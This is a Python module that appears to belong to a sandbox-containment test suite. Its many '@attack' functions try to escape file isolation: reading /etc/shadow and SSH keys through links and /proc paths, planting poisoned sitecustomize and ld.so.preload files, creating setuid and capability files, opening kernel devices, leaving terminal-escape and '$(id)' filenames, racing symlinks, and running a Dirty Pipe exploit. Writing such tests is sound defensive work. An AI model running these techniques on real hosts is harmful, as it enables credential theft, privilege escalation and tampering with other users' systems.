"""Reading and changing files of the host, and leaving traps in what may be written."""

from __future__ import annotations

import array
import ctypes
import errno
import io
import os
import shutil
import socket
import stat
import subprocess
import sys
import sysconfig
import tarfile

from .attempt import FACTS, Contained, add, attack, call, read, text

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

_DIRECTORY = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0)


# -- reading


@attack
def read_the_hosts_secret() -> object:
    return read(FACTS["secret"])


@attack
def read_a_secret_in_the_hosts_home() -> object:
    return read(FACTS["home_secret"])


@attack
def read_the_shadow_file() -> object:
    return read("/etc/shadow")


@attack
def read_keys_in_the_hosts_home() -> object:
    return os.listdir(os.path.join(FACTS["home"], ".ssh"))


@attack
def list_the_hosts_home() -> object:
    found = os.listdir(text("home"))
    if os.path.basename(FACTS["home_secret"]) in found:
        return found
    raise Contained(f"only the way to what is shown: {found}")


@attack
def list_the_hosts_folders() -> object:
    found = {place: os.listdir(place) for place in ("/root", "/home") if os.path.isdir(place)}
    names = [name for names in found.values() for name in names]
    if os.path.basename(FACTS["home_secret"]) in names:
        return found
    raise Contained(f"only the way to what is shown: {found}")


@attack
def list_the_folder_of_the_secret() -> object:
    return os.listdir(os.path.dirname(FACTS["secret"]))


@attack
def list_what_lies_beside_a_granted_folder() -> object:
    found = os.listdir(os.path.dirname(FACTS["granted"]))
    if os.path.basename(os.path.dirname(FACTS["secret"])) in found:
        return found
    raise Contained(f"only what is granted: {found}")


@attack
def read_through_a_symbolic_link() -> object:
    os.symlink(FACTS["secret"], "link")
    return read("link")


@attack
def read_through_a_link_in_a_granted_folder() -> object:
    link = os.path.join(FACTS["written"], "link")
    os.symlink(FACTS["secret"], link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@attack
def read_through_a_hard_link() -> object:
    os.link(FACTS["secret"], "hard")
    return read("hard")


@attack
def read_through_a_hard_link_in_a_granted_folder() -> object:
    os.link(FACTS["secret"], os.path.join(FACTS["written"], "hard"))
    return read(os.path.join(FACTS["written"], "hard"))


@attack
def read_through_dot_dot() -> object:
    return read(os.path.relpath(str(FACTS["secret"])))


@attack
def read_through_dot_dot_of_a_granted_folder() -> object:
    return read(os.path.join(FACTS["granted"], "..", "secret", "secret"))


@attack
def read_through_proc_root() -> object:
    return read("/proc/self/root" + FACTS["secret"])


@attack
def read_through_proc_cwd() -> object:
    return read("/proc/self/cwd/../../../../.." + FACTS["secret"])


@attack
def read_through_the_keepers_root() -> object:
    return read("/proc/1/root" + FACTS["secret"])


@attack
def read_through_the_keepers_folder() -> object:
    return read("/proc/1/cwd/../../.." + FACTS["secret"])


@attack
def read_through_a_child_program() -> object:
    done = subprocess.run(["/bin/cat", FACTS["secret"]], capture_output=True, check=False)
    if done.returncode:
        raise PermissionError(errno.EACCES, done.stderr.decode())
    return done.stdout


@attack
def read_through_a_thread() -> object:
    import threading

    found: list[object] = []

    def get() -> None:
        try:
            found.append(read(FACTS["secret"]))
        except OSError as error:
            found.append(error)

    thread = threading.Thread(target=get)
    thread.start()
    thread.join()
    if isinstance(found[0], OSError):
        raise found[0]
    return found


@attack
def read_with_openat2() -> object:
    how = ctypes.create_string_buffer(24)
    return call(437, -100, FACTS["secret"].encode(), how, 24)


@attack
def read_from_an_open_descriptor() -> object:
    """Any folder of the host that was left open leads everywhere beneath it."""
    errors: list[OSError] = []
    for entry in os.listdir("/proc/self/fd"):
        for path in (FACTS["secret"].lstrip("/"), "../" * 20 + FACTS["secret"].lstrip("/")):
            try:
                return os.open(path, os.O_RDONLY, dir_fd=int(entry))
            except OSError as error:
                errors.append(error)
    raise errors[0]


@attack
def find_descriptors_of_the_host() -> object:
    found: dict[int, str] = {}
    for entry in os.listdir("/proc/self/fd"):
        try:
            found[int(entry)] = os.readlink(f"/proc/self/fd/{entry}")
        except OSError:
            continue  # that of the listing
    sockets = [fd for fd, target in found.items() if target.startswith("socket:")]
    usual = ("/dev/null", "pipe:", "socket:")
    strange = {fd: target for fd, target in found.items() if not target.startswith(usual)}
    if strange or len(sockets) > 1:
        return found
    raise Contained(f"{len(found)}: /dev/null, its pipes and its one socket")


@attack
def read_the_hosts_environment() -> object:
    if FACTS["variable"] in os.environ:
        return "in os.environ"
    if FACTS["variable"].encode() in read("/proc/self/environ"):
        return "in /proc/self/environ"
    raise Contained("only variables of the sandbox")


@attack
def watch_a_folder() -> object:
    watcher = call(294, 0)
    try:
        return call(254, watcher, os.path.dirname(FACTS["secret"]).encode(), 0xFFF)
    finally:
        os.close(watcher)


@attack
def open_by_handle() -> object:
    return call(304, -100, ctypes.create_string_buffer(128), 0)


@attack
def make_a_handle() -> object:
    handle = ctypes.create_string_buffer(b"\x80" + bytes(127), 128)
    return call(303, -100, b"/", handle, ctypes.create_string_buffer(8), 0)


# -- changing


@attack
def overwrite_a_file() -> object:
    return os.open(FACTS["secret"], os.O_WRONLY)


@attack
def truncate_a_file() -> object:
    os.truncate(FACTS["secret"], 0)
    return "truncated"


@attack
def truncate_by_opening_to_read() -> object:
    return os.open(FACTS["secret"], os.O_RDONLY | os.O_TRUNC)


@attack
def write_what_can_only_be_read() -> object:
    return os.open(FACTS["granted"] + "/file", os.O_WRONLY)


@attack
def truncate_what_can_only_be_read() -> object:
    os.truncate(FACTS["granted"] + "/file", 0)
    return "truncated"


@attack
def reopen_to_write_what_can_only_be_read() -> object:
    with open(FACTS["granted"] + "/file", "rb") as file:
        return os.open(f"/proc/self/fd/{file.fileno()}", os.O_WRONLY)


@attack
def map_to_write_what_can_only_be_read() -> object:
    import mmap

    with open(FACTS["granted"] + "/file", "rb") as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_WRITE, flags=mmap.MAP_SHARED)


@attack
def plant_in_what_can_only_be_read() -> object:
    return os.open(FACTS["granted"] + "/planted", os.O_CREAT | os.O_WRONLY)


@attack
def remove_what_can_only_be_read() -> object:
    os.unlink(FACTS["granted"] + "/file")
    return "removed"


@attack
def link_what_can_only_be_read_to_where_it_can_be_written() -> object:
    os.link(FACTS["granted"] + "/file", FACTS["written"] + "/hard")
    return os.open(FACTS["written"] + "/hard", os.O_WRONLY)


@attack
def remove_a_file() -> object:
    os.unlink(FACTS["secret"])
    return "removed"


@attack
def remove_a_granted_folder() -> object:
    shutil.rmtree(FACTS["granted"])
    return "removed"


@attack
def move_a_file_in() -> object:
    os.rename(FACTS["secret"], "moved")
    return "moved"


@attack
def move_a_file_out() -> object:
    with open("mine", "w"):
        pass
    os.rename("mine", os.path.join(os.path.dirname(FACTS["secret"]), "planted"))
    return "moved"


@attack
def move_a_granted_folder_away() -> object:
    os.rename(FACTS["written"], FACTS["written"] + "-moved")
    return "moved"


@attack
def make_a_file_outside() -> object:
    path = os.path.join(os.path.dirname(FACTS["secret"]), "planted")
    return os.open(path, os.O_CREAT | os.O_WRONLY)


@attack
def make_a_folder_outside() -> object:
    os.mkdir(os.path.join(os.path.dirname(FACTS["secret"]), "planted"))
    return "made"


@attack
def make_a_file_in_the_hosts_home() -> object:
    os.close(os.open(FACTS["home_secret"] + ".planted", os.O_CREAT | os.O_WRONLY))
    raise Contained("in a folder of the sandbox's own")  # or not: the host looks


@attack
def make_a_file_in_the_hosts_temporary_folder() -> object:
    path = os.path.join(text("temporary"), text("name") + "-planted")
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
    raise Contained("in a folder of the sandbox's own")  # or not: the host looks


@attack
def set_an_extended_attribute() -> object:
    os.setxattr(FACTS["secret"], "user.planted", b"1")
    return "set"


@attack
def change_the_owner() -> object:
    os.chown(FACTS["secret"], os.getuid(), os.getgid())
    return "changed"


@attack
def change_the_mode() -> object:
    before = os.stat(FACTS["secret"]).st_mode
    os.chmod(FACTS["secret"], 0o777)
    if os.stat(FACTS["secret"]).st_mode != before:
        return "changed"
    raise Contained("answered with success, and nothing was changed")


@attack
def change_the_mode_of_what_can_only_be_read() -> object:
    path = FACTS["granted"] + "/file"
    before = os.stat(path).st_mode
    os.chmod(path, 0o777)
    if os.stat(path).st_mode != before:
        return "changed"
    raise Contained("answered with success, and nothing was changed")


@attack
def change_the_times() -> object:
    path = FACTS["granted"] + "/file"
    before = os.stat(path).st_mtime_ns
    os.utime(path, (1, 1))
    if os.stat(path).st_mtime_ns != before:
        return "changed"
    raise Contained("answered with success, and nothing was changed")


# -- poison for others


def _poison(name: str, place: Callable[[], str]) -> None:
    def plant() -> object:
        path = place()
        with open(path, "w") as file:
            file.write("import os; os.environ['PLANTED'] = '1'\n")
        return path

    add(f"poison_{name}", plant)


_poison("the_environments_path_files", lambda: sysconfig.get_path("purelib") + "/planted.pth")
_poison(
    "the_environments_site_customize", lambda: sysconfig.get_path("purelib") + "/sitecustomize.py"
)
_poison("the_standard_library", lambda: os.path.dirname(os.__file__) + "/planted.py")
_poison("compiled_files", lambda: os.path.dirname(os.__file__) + "/__pycache__/planted.pyc")
_poison("the_environments_settings", lambda: sys.prefix + "/pyvenv.cfg")
_poison("the_guests_own_code", lambda: FACTS["guest"] + "/planted.py")
_poison("the_packages_of_the_session", lambda: FACTS["packages"] + "/planted.py")
_poison("the_packages_of_all_sessions", lambda: "/overlays/planted.py")
_poison("the_system", lambda: "/usr/planted")
_poison("the_linkers_configuration", lambda: "/etc/ld.so.preload")
_poison("the_users", lambda: "/etc/passwd")
_poison("the_root", lambda: "/planted")


@attack
def poison_the_users_own_packages() -> object:
    """In its own home: a Python that it starts may read it, nobody else may."""
    version = f"{sys.version_info[0]}.{sys.version_info[1]}"
    folder = os.path.expanduser(f"~/.local/lib/python{version}/site-packages")
    os.makedirs(folder, exist_ok=True)
    for name in ("planted.pth", "usercustomize.py", "sitecustomize.py"):
        with open(os.path.join(folder, name), "w") as file:
            file.write("import os; os.environ['PLANTED'] = '1'\n")
    raise Contained("in a home of its own")  # the host looks at the next session


@attack
def poison_the_working_folder() -> object:
    for name in ("sitecustomize.py", "json.py", "site.py", "planted.pth", "loop.py", "pyvenv.cfg"):
        with open(name, "w") as file:
            file.write("raise SystemExit('planted')\n")
    raise Contained("in a folder of its own")


@attack
def poison_the_environment_variables() -> object:
    for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "PATH", "BASH_ENV"):
        os.environ[f"{name}"] = os.environ.get(name, "") if name == "PATH" else "/tmp/planted"
    for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD", "BASH_ENV"):
        del os.environ[name]
    raise Contained("its own process only")


# -- traps in what may be written


@attack
def make_a_set_id_program() -> object:
    path = os.path.join(FACTS["written"], "program")
    with open(path, "w"):
        pass
    os.chmod(path, 0o4755)
    return oct(os.stat(path).st_mode)


@attack
def open_a_new_set_id_program() -> object:
    path = os.path.join(FACTS["written"], "program2")
    return os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755)


@attack
def make_a_set_group_id_program() -> object:
    path = os.path.join(FACTS["written"], "program3")
    with open(path, "w") as file:
        os.fchmod(file.fileno(), 0o2755)
    return oct(os.stat(path).st_mode)


@attack
def make_a_set_id_program_by_a_new_call() -> object:
    path = os.path.join(FACTS["written"], "program4")
    with open(path, "w"):
        pass
    return call(452, -100, path.encode(), 0o4755, 0)


@attack
def make_a_set_id_program_by_creat() -> object:
    return call(85, os.path.join(FACTS["written"], "program5").encode(), 0o4755)


@attack
def make_a_set_id_node() -> object:
    os.mknod(os.path.join(FACTS["written"], "program6"), stat.S_IFREG | 0o6755)
    return "made"


@attack
def make_a_set_id_file_without_a_name() -> object:
    return os.open(FACTS["written"], os.O_TMPFILE | os.O_WRONLY, 0o4755)


@attack
def unpack_a_set_id_program() -> object:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        member = tarfile.TarInfo("program7")
        member.mode = 0o4755
        archive.addfile(member)
    packed.seek(0)
    with tarfile.open(fileobj=packed) as archive:
        archive.errorlevel = 1
        member = archive.getmembers()[0]
        archive.extract(member, FACTS["written"])
    mode = os.stat(os.path.join(FACTS["written"], "program7")).st_mode
    if mode & 0o6000:
        return oct(mode)
    raise Contained("unpacked without the bit")


@attack
def copy_a_set_id_program() -> object:
    to = os.path.join(FACTS["written"], "program8")
    found = [f"/usr/bin/{name}" for name in ("su", "mount", "passwd", "sudo", "newgrp")]
    done = subprocess.run(
        ["cp", "-p", *[path for path in found if os.path.exists(path)][:1], to],
        capture_output=True,
        check=False,
    )
    if os.path.exists(to) and os.stat(to).st_mode & 0o6000:
        return oct(os.stat(to).st_mode)
    raise Contained(f"copied without the bit ({done.returncode})")


@attack
def give_a_file_capabilities() -> object:
    path = os.path.join(FACTS["written"], "program9")
    with open(path, "w"):
        pass
    # VFS_CAP_REVISION_2, effective, CAP_SYS_ADMIN and all others
    os.setxattr(path, "security.capability", b"\x01\x00\x00\x02" + b"\xff" * 8 + bytes(8))
    return "given"


@attack
def run_a_set_id_program() -> object:
    for path in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp"):
        if os.path.exists(path):
            with open("/proc/self/status") as file:
                status = file.read()
            code = "import os; print(os.getresuid())"
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False)
            if b"0" in done.stdout.replace(b"1000", b"").replace(str(os.getuid()).encode(), b""):
                return done.stdout
            if "NoNewPrivs:\t1" in status:
                raise Contained("no_new_privs holds: set-id bits give nothing")
            return "no_new_privs is not set"
    raise Contained("there is none")


@attack
def make_a_block_device() -> object:
    path = os.path.join(FACTS["written"], "disk")
    os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(254, 0))
    return "made"


@attack
def make_a_memory_device() -> object:
    path = os.path.join(FACTS["written"], "memory")
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 1))
    return "made"


@attack
def make_a_whiteout() -> object:
    os.mknod(os.path.join(FACTS["written"], "whiteout"), stat.S_IFCHR, 0)
    return "made"


@attack
def leave_a_pipe_for_the_host_to_open() -> object:
    os.mkfifo(os.path.join(FACTS["written"], "fifo"))
    raise Contained("made; whoever opens it must not wait")  # the host tries


@attack
def leave_a_socket_for_the_host_to_open() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as made:
        made.bind(os.path.join(FACTS["written"], "sock"))
    raise Contained("made; nobody listens")


@attack
def leave_links_to_the_hosts_files() -> object:
    for name, target in (("secret", FACTS["secret"]), ("up", "../secret"), ("root", "/")):
        os.symlink(target, os.path.join(FACTS["written"], f"link-{name}"))
        os.symlink(target, f"link-{name}")
    raise Contained("made; they lead nowhere from here")  # the host removes the folder


@attack
def swap_a_folder_for_a_link_while_it_is_entered() -> object:
    """The race that file servers lose: between the check of a folder and its use."""
    outside = os.path.dirname(FACTS["secret"])
    os.makedirs("race/real")
    for _ in range(200):
        os.symlink(outside, "race/link")
        os.rename("race/real", "race/turn")
        os.rename("race/link", "race/real")
        try:
            inside = os.open("race/real", _DIRECTORY)
        except OSError:
            os.unlink("race/real")
            os.rename("race/turn", "race/real")
            continue
        return os.listdir(inside)
    raise Contained("the link leads nowhere")


@attack
def leave_names_that_terminals_obey() -> object:
    for name in ("\x1b]0;owned\x07", "\x1b[2J", "a\nb", "-rf", "--help", "$(id)", "\u202etxt.exe"):
        with open(os.path.join(FACTS["written"], name), "w"):
            pass
    raise Contained("made; whoever shows them must escape them")


# -- devices and the kernel's files


def _open(name: str, path: str, flags: int = os.O_RDONLY) -> None:
    add(f"open_{name}", lambda: os.open(path, flags))


_open("kernel_memory", "/dev/mem")
_open("the_kernels_messages", "/dev/kmsg")
_open("a_disk", "/dev/vda")
_open("another_disk", "/dev/sda")
_open("virtual_machines", "/dev/kvm", os.O_RDWR)
_open("user_space_file_systems", "/dev/fuse", os.O_RDWR)
_open("tunnels", "/dev/net/tun", os.O_RDWR)
_open("terminals", "/dev/ptmx", os.O_RDWR)
_open("the_console", "/dev/console", os.O_RDWR)
_open("the_hosts_terminal", "/dev/tty", os.O_RDWR)
_open("loop_devices", "/dev/loop-control", os.O_RDWR)
_open("device_mapper", "/dev/mapper/control", os.O_RDWR)
_open("input_injection", "/dev/uinput", os.O_RDWR)
_open("graphics", "/dev/dri/card0", os.O_RDWR)
_open("virtual_sockets", "/dev/vsock")
_open("the_core_pattern", "/proc/sys/kernel/core_pattern", os.O_WRONLY)
_open("the_module_loader", "/proc/sys/kernel/modprobe", os.O_WRONLY)
_open("binary_formats", "/proc/sys/fs/binfmt_misc/register", os.O_WRONLY)
_open("the_system_request", "/proc/sysrq-trigger", os.O_WRONLY)
_open("the_kernels_core", "/proc/kcore")
_open("the_kernels_log", "/proc/kmsg")
_open("the_name_of_the_host", "/proc/sys/kernel/hostname", os.O_WRONLY)
_open("forwarding", "/proc/sys/net/ipv4/ip_forward", os.O_WRONLY)
_open("cached_pages", "/proc/sys/vm/drop_caches", os.O_WRONLY)
_open("overcommit", "/proc/sys/vm/overcommit_memory", os.O_WRONLY)
_open("page_counts", "/proc/kpagecount")
_open("the_out_of_memory_score", "/proc/self/oom_score_adj", os.O_WRONLY)
_open("user_maps", "/proc/self/uid_map", os.O_WRONLY)
_open("security_attributes", "/proc/self/attr/exec", os.O_WRONLY)
_open("control_groups", "/sys/fs/cgroup/cgroup.procs", os.O_WRONLY)
_open("uevent_helper", "/sys/kernel/uevent_helper", os.O_WRONLY)
_open("tracing", "/sys/kernel/tracing/trace")
_open("firmware_variables", "/sys/firmware/efi/efivars")


@attack
def rewrite_its_own_pages() -> object:
    """What is mapped read-only is a file's, shared with everybody: a copy must be made."""
    path = FACTS["granted"] + "/file"
    import mmap

    with open(path, "rb") as file:
        mapped = mmap.mmap(file.fileno(), 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
        address = _address(mapped)
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        memory.write(b"planted")
    if read(path).startswith(b"planted"):
        return "the file was changed"
    raise Contained("its own copy of the page")


def _address(mapped: object) -> int:
    class Buffer(ctypes.Structure):
        _fields_ = (("buffer", ctypes.c_void_p), ("rest", ctypes.c_char * 120))

    view = Buffer()
    get = ctypes.pythonapi.PyObject_GetBuffer
    get.argtypes = (ctypes.py_object, ctypes.c_void_p, ctypes.c_int)
    get(mapped, ctypes.byref(view), 0)
    return int(view.buffer)


@attack
def dirty_a_cached_page() -> object:
    """Dirty Pipe (CVE-2022-0847): a pipe's buffer that still counts as its writer's own."""
    path = FACTS["granted"] + "/file"
    before = read(path)
    reading, writing = os.pipe()
    try:
        size = 65536
        os.write(writing, b"x" * size)
        while size:
            size -= len(os.read(reading, size))
        with open(path, "rb") as file:
            os.splice(file.fileno(), writing, 1, offset_src=0)  # pyright: ignore[reportUnknownMemberType]
        os.write(writing, b"planted")
    finally:
        os.close(reading)
        os.close(writing)
    if read(path) != before:
        return "the file was changed"
    raise Contained("the page stayed as it was")


@attack
def pass_a_descriptor_back_to_itself() -> object:
    """A descriptor that was opened as a path only must not come back as one to read."""
    opened = os.open(FACTS["granted"], os.O_PATH)
    one, other = socket.socketpair()
    with one, other:
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [opened]))])
        _, control, _, _ = other.recvmsg(1, 64)
        (fd,) = array.array("i", control[0][2])
        os.close(opened)
        try:
            return os.open("../secret/secret", os.O_RDONLY, dir_fd=fd)
        finally:
            os.close(fd)
